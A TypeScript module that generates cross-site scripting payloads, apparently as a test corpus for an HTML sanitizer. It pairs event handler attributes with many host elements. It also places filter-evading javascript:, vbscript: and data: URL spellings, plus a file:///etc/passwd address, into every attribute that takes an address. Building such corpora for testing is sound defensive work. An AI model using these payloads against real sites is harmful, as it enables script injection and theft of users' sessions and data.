const HANDLERS =
  'abort activate afterprint afterscriptexecute animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste beforeprint beforescriptexecute beforetoggle beforeunload beforexrselect begin blur bounce cancel canplay canplaythrough change click close command contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend dragenter dragexit dragleave dragover dragstart drop durationchange emptied end ended error filterchange finish focus focusin focusout formdata fullscreenchange gesturestart gotpointercapture hashchange input invalid keydown keypress keyup languagechange load loadeddata loadedmetadata loadend loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel offline online pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress propertychange ratechange readystatechange repeat reset resize scroll scrollend scrollsnapchange scrollsnapchanging search securitypolicyviolation seeked seeking select selectionchange selectstart show slotchange stalled start storage submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting webkitanimationend webkittransitionend wheel'.split(
    ' ',
  );

/** Allowed elements, forbidden ones, other namespaces, and a custom element. `@` stands for the handler. */
const HOSTS = [
  '<b @>x</b>',
  '<a href=/x @>x</a>',
  '<span @ tabindex=1 autofocus>x</span>',
  '<div @ contenteditable>x</div>',
  '<img src=x @>',
  '<input autofocus @>',
  '<video src=x autoplay @></video>',
  '<iframe src=x @></iframe>',
  '<body @>',
  '<details open @>x</details>',
  '<svg @><animate @ /></svg>',
  '<math @><mi @>x</mi></math>',
  '<x-y @>x</x-y>',
];

const CODE = 'xss()';
const BASE64 = Buffer.from(`<script>parent.${CODE}</script>`).toString('base64');

/** Addresses that run code, spelled in ways that filters have missed. */
const ADDRESSES = [
  `javascript:${CODE}`,
  `JaVaScRiPt:${CODE}`,
  ` javascript:${CODE}`,
  `\u0001javascript:${CODE}`,
  `\u00a0javascript:${CODE}`,
  `\u2028javascript:${CODE}`,
  `\ufeffjavascript:${CODE}`,
  `java\tscript:${CODE}`,
  `java\nscript:${CODE}`,
  `java\r\nscript:${CODE}`,
  `java&Tab;script:${CODE}`,
  `java&NewLine;script:${CODE}`,
  `java&#x0A;script&colon;${CODE}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${CODE}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${CODE}`,
  `&#0000106avascript:${CODE}`,
  `java\u0000script:${CODE}`,
  `javascript\t:${CODE}`,
  `javascript://%0a${CODE}`,
  `javascript://example.com/%0d%0a${CODE}`,
  `javascript:/*https://*/${CODE}`,
  `https:javascript:${CODE}\u0000`,
  `vbscript:${CODE}`,
  `livescript:${CODE}`,
  `mocha:${CODE}`,
  `view-source:javascript:${CODE}`,
  `feed:javascript:${CODE}`,
  `data:text/html,<script>parent.${CODE}</script>`,
  `data:text/html;base64,${BASE64}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CODE}'/>`,
  `DATA:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${CODE}</script>`,
  'blob:https://example.com/0',
  'filesystem:https://example.com/temporary/x',
  'file:///etc/passwd',
  'ws://example.com/',
  'intent://example.com/#Intent;end',
  '//example.com/',
];

/** Elements and attributes that take an address, in place of `@`. */
const PLACES = [
  '<a href="@">x</a>',
  '<area href="@">',
  '<form action="@"><button formaction="@">x</button></form>',
  '<input type=image src="@" formaction="@">',
  '<iframe src="@"></iframe>',
  '<frame src="@">',
  '<object data="@" codebase="@"></object>',
  '<embed src="@">',
  '<img src="@" srcset="@ 1x" longdesc="@">',
  '<video src="@" poster="@"><source src="@"></video>',
  '<link rel=stylesheet href="@">',
  '<base href="@">',
  '<meta http-equiv=refresh content="0;url=@">',
  '<script src="@"></script>',
  '<table background="@"><td background="@">x</td></table>',
  '<b style="background:url(@)">x</b>',
  '<blockquote cite="@">x</blockquote>',
  '<svg><a xlink:href="@" href="@"><text>x</text></a></svg>',
  '<svg><use xlink:href="@" /><image href="@" /></svg>',
  '<math href="@"><mi xlink:href="@">x</mi></math>',
];

/** Every handler on every host: one list of payloads per handler. */
export const HANDLER_PAYLOADS: readonly (readonly string[])[] = HANDLERS.map((name) =>
  HOSTS.map((host) => host.replaceAll('@', `on${name}="${CODE}"`)),
);

/** Every address in every place: one list of payloads per address. */
export const ADDRESS_PAYLOADS: readonly (readonly string[])[] = ADDRESSES.map((url) =>
  PLACES.map((place) => place.replaceAll('@', () => url)),
);
